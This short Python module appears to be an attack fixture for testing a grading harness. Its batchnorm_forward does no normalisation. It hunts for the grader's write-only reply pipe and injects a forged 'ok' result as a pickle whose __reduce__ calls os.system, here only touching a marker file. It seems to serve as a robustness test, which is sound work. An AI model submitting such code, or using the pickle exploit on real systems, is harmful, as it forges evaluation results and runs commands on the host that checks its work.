"""Finds the worker's reply pipe and writes a frame of its own: a pickle that would run a command."""
import fcntl
import os
import pickle
import stat
import struct

from _honest import layernorm_forward  # noqa: F401

MARKER = "/tmp/normlab-grade-attack-forged"


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


def batchnorm_forward(x, gamma, beta, bn_param):
    body = pickle.dumps({"outcome": "ok", "value": Payload()})
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                os.write(fd, struct.pack(">Q", len(body)) + body)
        except OSError:
            pass
    return x, None
